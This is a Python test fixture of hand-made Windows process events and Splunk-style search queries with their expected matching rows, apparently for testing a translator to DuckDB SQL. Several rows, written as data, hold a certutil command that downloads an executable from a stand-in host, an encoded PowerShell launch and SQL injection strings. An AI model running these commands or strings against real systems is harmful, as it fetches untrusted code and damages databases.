"""Hand-made process events and the searches they are tested with.

Every row is there for a reason given beside it: a case difference, a
missing or empty value, a backslash, a wildcard character, a line break, or
text that looks like SQL. Row ids are the frame's index.
"""

from __future__ import annotations

import duckdb
import pandas as pd

NA = None

# fmt: off
ROWS = [
    # id 0: the encoded PowerShell launch
    {"_time": "2024-05-01T10:00:00Z", "host": "WKS-01", "Name": "powershell.exe",
     "CommandLine": "powershell.exe -enc SQBFAFgA", "ProcessId": "868",
     "User": "CORP\\alice", "SessionId": "1",
     "Path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "Process Command Line": "powershell.exe -enc SQBFAFgA",
     "process.command_line": NA},
    # id 1: cmd running whoami
    {"_time": "2024-05-01T10:05:00Z", "host": "WKS-01", "Name": "cmd.exe",
     "CommandLine": "cmd.exe /c whoami", "ProcessId": "4", "User": "CORP\\bob",
     "SessionId": "0", "Path": "C:\\Windows\\System32\\cmd.exe",
     "Process Command Line": "cmd.exe /c whoami",
     "process.command_line": "cmd.exe /c whoami"},
    # id 2: mixed-case name, quoted executable, text SessionId
    {"_time": "2024-05-01T11:00:00Z", "host": "WKS-02", "Name": "PowerShell_ISE.exe",
     "CommandLine": '"C:\\Program Files\\x.exe" --flag', "ProcessId": "10000",
     "User": "CORP\\alice", "SessionId": "Services",
     "Path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell_ISE.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 3: a leading-zero number and a user with a space
    {"_time": "2024-05-02T09:00:00Z", "host": "WKS-02", "Name": "svchost.exe",
     "CommandLine": "svchost.exe -k netsvcs", "ProcessId": "00868",
     "User": "NT AUTHORITY\\SYSTEM", "SessionId": "0",
     "Path": "C:\\Windows\\System32\\svchost.exe",
     "Process Command Line": "svchost.exe -k netsvcs", "process.command_line": NA},
    # id 4: a URL with '=' and '?', a hex id, a missing user, a +0000 offset
    {"_time": "2024-05-08T10:00:00.000+0000", "host": "WKS-03", "Name": "certutil.exe",
     "CommandLine": "certutil -urlcache -f http://x.example/a?b=c out.exe",
     "ProcessId": "0x1a", "User": NA, "SessionId": "1",
     "Path": "C:\\Windows\\System32\\certutil.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 5: blank name (empty string), missing command line and id
    {"_time": "2024-05-09T10:00:00Z", "host": "WKS-03", "Name": "",
     "CommandLine": NA, "ProcessId": NA, "User": "CORP\\carol", "SessionId": "",
     "Path": NA, "Process Command Line": NA, "process.command_line": NA},
    # id 6: non-ASCII, embedded quotes, lower-case host, a +02:00 offset
    {"_time": "2024-05-10T10:00:00+02:00", "host": "wks-03", "Name": "Über.exe",
     "CommandLine": 'über "quoted" thing', "ProcessId": "2.5", "User": "CORP\\dave",
     "SessionId": "1", "Path": "C:\\Users\\dave\\Über.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 7: SQL-looking text and a UNC path
    {"_time": "2024-05-10T10:00:00Z", "host": "WKS-04", "Name": "COPY",
     "CommandLine": "cmd /c copy a b; DROP TABLE t", "ProcessId": "-3",
     "User": "CORP\\eve", "SessionId": "2", "Path": "\\\\server\\share\\copy.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 8: a line break inside the command line, an exponent, a bad time
    {"_time": "not a time", "host": "WKS-04", "Name": "notepad.exe",
     "CommandLine": "line1\nline2 -enc", "ProcessId": "1e3", "User": "CORP\\eve",
     "SessionId": "2", "Path": "C:\\Windows\\notepad.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 9: a literal '*' in a name, an SQL injection string, no time
    {"_time": NA, "host": "WKS-05", "Name": "a*b.exe",
     "CommandLine": "x'); DROP TABLE t; --", "ProcessId": "99",
     "User": "CORP\\frank", "SessionId": "10", "Path": "C:\\Temp\\a*b.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 10: '#' in a path, a backslash-quote in the command line
    {"_time": "2024-05-10T12:00:00Z", "host": "WKS-05", "Name": "csc.exe",
     "CommandLine": 'csc.exe /define:"A\\"B"', "ProcessId": "5", "User": "CORP\\bob",
     "SessionId": "1", "Path": "C:\\Tools\\C#\\csc.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 11: the same program as id 1, upper case
    {"_time": "2024-05-10T12:30:00Z", "host": "WKS-05", "Name": "cmd.exe",
     "CommandLine": "CMD.EXE /C dir", "ProcessId": "12", "User": "CORP\\Bob",
     "SessionId": "1", "Path": "C:\\Windows\\System32\\cmd.exe",
     "Process Command Line": NA, "process.command_line": NA},
]
# fmt: on

ALL_IDS = list(range(len(ROWS)))


def make_events() -> pd.DataFrame:
    """The hand-made events as pyarrow-backed text, index = row id."""
    frame = pd.DataFrame(ROWS).astype(pd.StringDtype("pyarrow"))
    frame.index = pd.Index(ALL_IDS, name="rid")
    return frame


def load_into_duckdb(frame: pd.DataFrame) -> duckdb.DuckDBPyConnection:
    """A new in-memory DuckDB holding ``frame`` as table ``events`` with ``rid``."""
    con = duckdb.connect(":memory:")
    con.register("staged", frame.reset_index(names="rid"))
    con.execute("CREATE TABLE events AS SELECT * FROM staged")
    con.unregister("staged")
    return con


def _all_but(*ids: int) -> list[int]:
    return [i for i in ALL_IDS if i not in ids]


CASES = [
    # everything
    ("", ALL_IDS),
    ("   \t ", ALL_IDS),
    ("*", ALL_IDS),
    ("**", ALL_IDS),
    ("* Name=cmd.exe", [1, 11]),
    ("NOT *", []),
    # field=value: whole value, case-insensitive value, case-sensitive name
    ("Name=cmd.exe", [1, 11]),
    ("Name=CMD.EXE", [1, 11]),
    ("Name = cmd.exe", [1, 11]),
    ("name=cmd.exe", []),
    ("Name=cmd", []),
    ("Name=über.exe", [6]),
    ("host=wks-03", [4, 5, 6]),
    ("ProcessId=868", [0]),
    ("_time=2024-05-10*", [6, 7, 10, 11]),
    # wildcards
    ("Name=power*", [0, 2]),
    ("CommandLine=*-enc*", [0, 8]),
    ("Name=c*.exe NOT Name=cmd.exe", [4, 10]),
    ("Name=a*b.exe", [9]),
    ('CommandLine="line1*line2*"', [8]),
    # quotes and backslashes
    ('User="NT AUTHORITY\\\\SYSTEM"', [3]),
    ('User="NT AUTHORITY\\SYSTEM"', [3]),
    ("User=CORP\\\\bob", [1, 10, 11]),
    ('Path="C:\\Windows\\System32\\*"', [0, 1, 2, 3, 4, 11]),
    ("Path=C:\\Tools\\C#\\*", [10]),
    ("Path=\\\\\\\\server\\\\share\\\\*", [7]),
    ('CommandLine="*A\\\\\\"B*"', [10]),
    # missing fields and empty values
    ("Nope=x", []),
    ("Nope!=x", []),
    ("NOT Nope=x", ALL_IDS),
    ("Name=*", _all_but(5)),
    ('Name=""', [5]),
    ('CommandLine=""', [5]),
    ('Name!=""', _all_but(5)),
    ("Name!=*", []),
    ("Name!=cmd.exe", _all_but(1, 5, 11)),
    ("NOT Name=cmd.exe", _all_but(1, 11)),
    ("User!=CORP\\\\alice", _all_but(0, 2, 4)),
    # names that need quoting
    ("'Process Command Line'=*whoami*", [1]),
    ('"Process Command Line"=*whoami*', [1]),
    ("'Process Command Line'!=*whoami*", [0, 3]),
    ("process.command_line=cmd*", [1]),
    # free text: substring of any field, case-insensitive
    ("whoami", [1]),
    ("POWERSHELL", [0, 2]),
    ("pow*ise", [2]),
    ("über", [6]),
    ('"quoted"', [6]),
    ('"\\"quoted\\""', [6]),
    ("line1", [8]),
    ("-enc", [0, 8]),
    ("*urlcache*", [4]),
    ('"http://x.example/a?b=c"', [4]),
    # boolean logic and Splunk precedence (OR binds tighter than AND)
    ("cmd.exe whoami", [1]),
    ("cmd AND whoami", [1]),
    ("cmd and whoami", []),
    ("cmd or whoami", [1]),
    ("cmd OR whoami", [1, 7, 11]),
    ("Name=cmd.exe whoami OR copy", [1]),
    ("(Name=cmd.exe whoami) OR copy", [1, 7]),
    ("Name=cmd.exe AND host=WKS-01", [1]),
    ("NOT (Name=cmd.exe OR Name=power*)", [3, 4, 5, 6, 7, 8, 9, 10]),
    ("NOT NOT Name=cmd.exe", [1, 11]),
    ("(Name=cmd.exe OR Name=csc.exe) User=CORP\\\\bob", [1, 10, 11]),
    ('Name=cmd.exe (User="CORP\\\\Bob")', [1, 11]),
    ("Name=AND", []),
    # comparisons: numeric when both sides are numbers, else text
    ("ProcessId>100", [0, 2, 3, 8]),
    ("ProcessId<=4", [1, 4, 6, 7]),
    ("ProcessId>=868", [0, 2, 3, 8]),
    ("ProcessId<-2.5", [7]),
    ("SessionId>1", [2, 7, 8, 9]),
    ("SessionId<abc", _all_but(2, 5)),
    ("Nope>1", []),
    # text that looks like code is only ever text
    ("COPY", [7]),
    ("DROP", [7, 9]),
    ('"\'); DROP TABLE t; --"', [9]),
    (";", [7, 9]),
    ("DROP TABLE t", [7, 9]),
]

CASE_IDS = [q if q.strip() else repr(q) for q, _ in CASES]
